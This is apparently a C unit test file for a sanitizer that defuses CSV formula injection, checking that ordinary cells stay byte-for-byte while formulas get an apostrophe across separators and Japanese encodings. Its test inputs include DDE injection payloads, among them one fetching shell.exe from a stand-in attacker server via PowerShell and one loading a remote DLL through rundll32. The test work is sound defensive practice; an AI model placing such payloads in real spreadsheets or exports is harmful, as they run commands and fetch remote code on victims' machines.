#include "fake_job.h"

#include <check.h>
#include <string.h>

/* Cells that stay as they are, and such that get an apostrophe; each is tried alone, in the middle and quoted. */
static const char *const data_cells[] = {
    "123",
    "-123",
    "+123",
    "-1,234.5",
    "-",
    "－",
    "-なし",
    "－なし",
    "+81-3-1234-5678",
    "+81 (0)3-1234",
    "@課",
    "@",
    "@総務課",
    "=\"0123\"",
    "=",
    "==",
    "-1.5E+3",
    "-10%",
    "- なし",
    "-/-",
    "+",
    "--",
    "-1-2",
    "-5(税込)",
    "-（注）",
    "@佐藤",
    "-東京都(23区)",
    "'=SUM(A1)",
    "a=b(c)",
    "0120",
    "2026-11-20",
    "-12:30",
    "+9:00",
    "-すごい!",
    "-すごい!!",
    "＠課",
    "＋５０",
    "－１２３",
    "-3F",
    "-1号",
    "-５",
    "～",
    "=なし",
    "-、(A1)",
    "- ・B5 用紙",
    "-令和7年",
    "-5F(3)",
};

static const char *const formulas[] = {
    "=SUM(A1)",
    "=A1",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(http://x)",
    "=WEBSERVICE(A1)",
    "=IMPORTXML (A1)",
    "@A1",
    "-A1",
    "+$B$12",
    "=R1C1",
    "=Sheet2!A1",
    "='\\\\host\\share\\[b.xlsx]S'!A1",
    "=[b.xlsx]S!A1",
    "＝SUM(A1)",
    "＝ＳＵＭ（Ａ１）",
    "＋cmd|' /C calc'!A0",
    "－2+3+cmd|' /C calc'!A0",
    "＠SUM(1+9)",
    "=　SUM(A1)",
    " =SUM(A1)",
    "　=SUM(A1)",
    "= - + SUM(A1)",
    "=(SUM(A1))",
    "=1+1+SUM(A1)",
    "=-A1",
    "=sum.x(1)",
    "=_xlfn.SINGLE(A1)",
    "=x&SUM(A1)",
    "=7z|'x'!A0",
    "=\u200bSUM(A1)",
    "-\x07"
    "cmd|' /C calc'!A0",
    "=\033[31mSUM(A1)",
    "-\ufe0fSUM(A1)",
    "＝cmd｜' /C calc'!A0",
};

typedef struct Frame {
    const char *what, *before, *after;
} Frame;

static const Frame frames[] = {{"alone", "", "\r\n"},
                               {"no line end", "", ""},
                               {"comma", "a,", ",b\n"},
                               {"tab", "a\t", "\tb\n"},
                               {"semicolon", "a;", ";b\n"},
                               {"pipe", "a|", "\n"},
                               {"second line", "x,y\r\n", ",z\r\n"},
                               {"old mac", "x\r", "\r"},
                               {"quoted", "a,\"", "\",b\n"},
                               {"empty quotes first", "\"\"", ",b\n"},
                               {"mark", "\xef\xbb\xbf", "\n"},
                               {"sep", "sep=^\r\na^", "^b\r\n"},
                               {"name", "名前,", "\n"}};

static gboolean run_csv(FakeRun *run, const char *in, gsize size)
{
    g_autoptr(GError) error = NULL;
    gboolean ok = fake_run_clean(run, (const guint8 *)in, size, "a.csv", MGK_FORMAT_ID_NONE, &error);
    ck_assert_msg(ok && run->outcome.verdict == MGK_VERDICT_CLEANED && run->outcome.format == MGK_FORMAT_ID_csv,
                  "'%s': %s %s", in, mgk_verdict_name(run->outcome.verdict),
                  error ? error->message : run->outcome.detail);
    return fake_run_found(run, MGK_KIND_CSV_FORMULA);
}

START_TEST(test_csv__data_stays_byte_for_byte)
{
    for (guint i = 0; i < G_N_ELEMENTS(data_cells); i++) {
        for (guint f = 0; f < G_N_ELEMENTS(frames); f++) {
            g_autofree char *in = g_strconcat(frames[f].before, data_cells[i], frames[f].after, NULL);
            g_autoptr(FakeRun) run = fake_run_new();
            gboolean found = run_csv(run, in, strlen(in));
            ck_assert_msg(!found, "%s in %s: taken for a formula", data_cells[i], frames[f].what);
            ck_assert_msg(run->output->len == strlen(in) && memcmp(run->output->data, in, strlen(in)) == 0,
                          "%s in %s: changed", data_cells[i], frames[f].what);
        }
    }
}
END_TEST

START_TEST(test_csv__formulas_get_an_apostrophe)
{
    for (guint i = 0; i < G_N_ELEMENTS(formulas); i++) {
        for (guint f = 0; f < G_N_ELEMENTS(frames); f++) {
            g_autofree char *in = g_strconcat(frames[f].before, formulas[i], frames[f].after, NULL);
            g_autoptr(FakeRun) run = fake_run_new();
            gboolean found = run_csv(run, in, strlen(in));
            g_autofree char *out = g_strndup((char *)run->output->data, run->output->len);
            ck_assert_msg(found && strchr(out + strlen(frames[f].before), '\''), "%s in %s: not seen", formulas[i],
                          frames[f].what);
            g_autoptr(FakeRun) again = fake_run_new();
            ck_assert_msg(!run_csv(again, out, strlen(out)), "%s in %s: not stable: %s", formulas[i], frames[f].what,
                          out);
        }
    }
}
END_TEST

START_TEST(test_csv__other_encodings_are_guarded_too)
{
    static const struct {
        const char *what, *in, *want;
        gsize in_size, want_size;
    } rows[] = {
#define ROW(what, in, want) {what, in, want, sizeof in - 1, sizeof want - 1}
        ROW("utf-16le",
            "\xff\xfe=\0A\0"
            "1\0\n\0",
            "\xff\xfe'\0=\0A\0"
            "1\0\n\0"),
        ROW("utf-16be",
            "\xfe\xff\0=\0A\0"
            "1\0\n",
            "\xfe\xff\0'\0=\0A\0"
            "1\0\n"),
        ROW("cp932", "\x93\xfa\x96\x7b,\x81\x81SUM(A1)\r\n", "\x93\xfa\x96\x7b,'\x81\x81SUM(A1)\r\n"),
        ROW("cp932 trail byte is a pipe", "\x83\x7c=1\r\n", "\x83\x7c=1\r\n"),
        ROW("euc-jp", "\xc6\xfc\xcb\xdc\xb8\xec,\xa1\xe1SUM(A1)\n", "\xc6\xfc\xcb\xdc\xb8\xec,'\xa1\xe1SUM(A1)\n"),
        ROW("iso-2022-jp", "\033$BF|K\\\033(B,\033$B!a\033(BSUM(A1)\n",
            "\033$BF|K\\\033(B,\033$B\033(B'\033$B!a\033(BSUM(A1)\n"),
        ROW("quote swallowed by a reader of cp932", "\"\xe3\x81\x82\",=A1\n\"\xe3\x81\x82,=A1\"\n",
            "\"\xe3\x81\x82\",'=A1\n\"\xe3\x81\x82,'=A1\"\n"),
        ROW("quoted text with a mark", "\xef\xbb\xbf\"\xe3\x81\x82,=A1\"\n", "\xef\xbb\xbf\"\xe3\x81\x82,=A1\"\n"),
        ROW("quote never closed", "\"a,b\nc,=A1\n", "\"a,b\nc,'=A1\n"),
        ROW("line break in quotes", "\"a\n=A1\"\n", "\"a\n=A1\"\n"),
        ROW("union with a link", "=x,cmd|' /C calc'!A0\n", "'=x,cmd|' /C calc'!A0\n"),
        ROW("neighbour's reference", "-,A4,100\n-x,A4,100\n", "-,A4,100\n-x,A4,100\n"),
    };
    for (guint i = 0; i < G_N_ELEMENTS(rows); i++) {
        g_autoptr(FakeRun) run = fake_run_new();
        run_csv(run, rows[i].in, rows[i].in_size);
        ck_assert_msg(run->output->len == rows[i].want_size &&
                          memcmp(run->output->data, rows[i].want, rows[i].want_size) == 0,
                      "%s: got '%.*s'", rows[i].what, (int)run->output->len, run->output->data);
    }
}
END_TEST

START_TEST(test_csv__raw_bytes_of_jis_are_held)
{
    /* three kanji to one reader, the cell =A1 to another */
    static const char in[] = "\033$B0,=A1,\033(B\n";
    g_autoptr(FakeRun) run = fake_run_new();
    gboolean ok = fake_run_clean(run, (const guint8 *)in, sizeof in - 1, "a.csv", MGK_FORMAT_ID_csv, NULL);
    ck_assert_msg(!ok || !mgk_verdict_crosses(run->outcome.verdict), "crossed");
}
END_TEST

START_TEST(test_csv__policy_holds_for_machines)
{
    g_autoptr(FakeRun) run = fake_run_new();
    run->policy.actions[MGK_KIND_CSV_FORMULA] = MGK_ACTION_HOLD;
    ck_assert(fake_run_clean(run, (const guint8 *)"=A1\n", 4, "a.csv", MGK_FORMAT_ID_csv, NULL));
    ck_assert_int_eq(run->outcome.verdict, MGK_VERDICT_HELD);
}
END_TEST

START_TEST(test_csv__hostile_nesting_takes_linear_time)
{
    static const char *const units[] = {"=(", "-a(\"", "-x,", "=x|", "\"=", "-'", "-a;b!,", "=a,("};
    for (guint i = 0; i < G_N_ELEMENTS(units); i++) {
        g_autoptr(GString) in = g_string_new("");
        while (in->len < 200000)
            g_string_append(in, units[i]);
        g_autoptr(FakeRun) run = fake_run_new();
        gint64 start = g_get_monotonic_time();
        fake_run_clean(run, (const guint8 *)in->str, in->len, "a.csv", MGK_FORMAT_ID_csv, NULL);
        gint64 took = g_get_monotonic_time() - start;
        ck_assert_msg(took < 20 * G_USEC_PER_SEC, "'%s' took %d ms", units[i], (int)(took / 1000));
    }
}
END_TEST

START_TEST(test_csv__check_refuses_originals)
{
    static const char *const rows[] = {
        "=SUM(A1)\n",  "a,=cmd|'/C calc'!A0\n",    "a;\"@SUM(1+9)\"\n",          "a\t+cmd|'x'!A0",
        "＝SUM(A1)\n", "=10+20+cmd|' /C calc'!A0", "\x93\xfa,\x81\x81SUM(A1)\n", "\"\"=SUM(1)\n",
        "=Sheet2!A1\n"};
    for (guint i = 0; i < G_N_ELEMENTS(rows); i++) {
        g_autoptr(FakeRun) run = fake_run_new();
        ck_assert_msg(!fake_run_check(run, (const guint8 *)rows[i], strlen(rows[i]), MGK_FORMAT_ID_csv, NULL),
                      "row %u passed", i);
    }
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("csv");
    TCase *tc = tcase_create("csv");
    tcase_set_timeout(tc, 100);
    tcase_add_test(tc, test_csv__data_stays_byte_for_byte);
    tcase_add_test(tc, test_csv__formulas_get_an_apostrophe);
    tcase_add_test(tc, test_csv__other_encodings_are_guarded_too);
    tcase_add_test(tc, test_csv__raw_bytes_of_jis_are_held);
    tcase_add_test(tc, test_csv__policy_holds_for_machines);
    tcase_add_test(tc, test_csv__hostile_nesting_takes_linear_time);
    tcase_add_test(tc, test_csv__check_refuses_originals);
    suite_add_tcase(suite, tc);
    SRunner *runner = srunner_create(suite);
    srunner_run_all(runner, CK_NORMAL);
    int failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed != 0;
}
